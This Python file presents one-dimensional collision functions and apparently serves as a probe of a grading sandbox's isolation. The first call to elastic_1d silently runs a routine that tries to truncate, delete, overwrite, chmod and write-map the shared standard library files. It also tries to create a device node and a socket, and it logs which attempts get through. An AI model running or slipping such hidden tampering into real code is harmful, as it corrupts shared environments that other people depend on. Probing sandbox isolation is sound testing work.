"""Writes to the libraries that all submissions read, by every way there is."""

import math
import mmap
import os
import socket
import types

THROUGH = set()


def attempt(name, deed):
    try:
        deed()
    except (OSError, ImportError, AttributeError, KeyError, ValueError, RuntimeError):
        return
    THROUGH.add(name)


def attack():
    for path in (os.__file__, types.__file__, getattr(math, "__file__", os.__file__)):
        attempt("writes to libraries", lambda path=path: os.open(path, os.O_WRONLY))
        attempt("cuts libraries off", lambda path=path: os.truncate(path, 0))
        attempt("replaces libraries", lambda path=path: os.rename("mine", path))
        attempt("removes libraries", lambda path=path: os.unlink(path))
        attempt("links libraries", lambda path=path: os.link(path, "mine"))
        attempt("changes times", lambda path=path: os.utime(path))
        attempt("changes modes", lambda path=path: os.chmod(path, 0o777))
        attempt("marks libraries", lambda path=path: os.setxattr(path, "user.mark", b"1"))
    file = os.open(os.__file__, os.O_RDONLY)
    protection = mmap.PROT_READ | mmap.PROT_WRITE
    attempt("maps libraries to write", lambda: mmap.mmap(file, 4096, mmap.MAP_SHARED, protection))
    attempt("makes devices", lambda: os.mknod("zero", 0o20666, os.makedev(1, 5)))
    attempt("has sockets", lambda: socket.socketpair())


TRIED = []


def elastic_1d(m1, v1, m2, v2):
    if not TRIED:
        TRIED.append("once is enough")
        attack()
    total = m1 + m2
    return ((m1 - m2) * v1 + 2 * m2 * v2) / total, ((m2 - m1) * v2 + 2 * m1 * v1) / total


def inelastic_1d(m1, v1, m2, v2):
    v = (m1 * v1 + m2 * v2) / (m1 + m2)
    return v, v


def elastic_impulse_1d(m1, v1, m2, v2):
    return 2 * m1 * m2 / (m1 + m2) * (v1 - v2)


def got_through():
    return sorted(THROUGH)
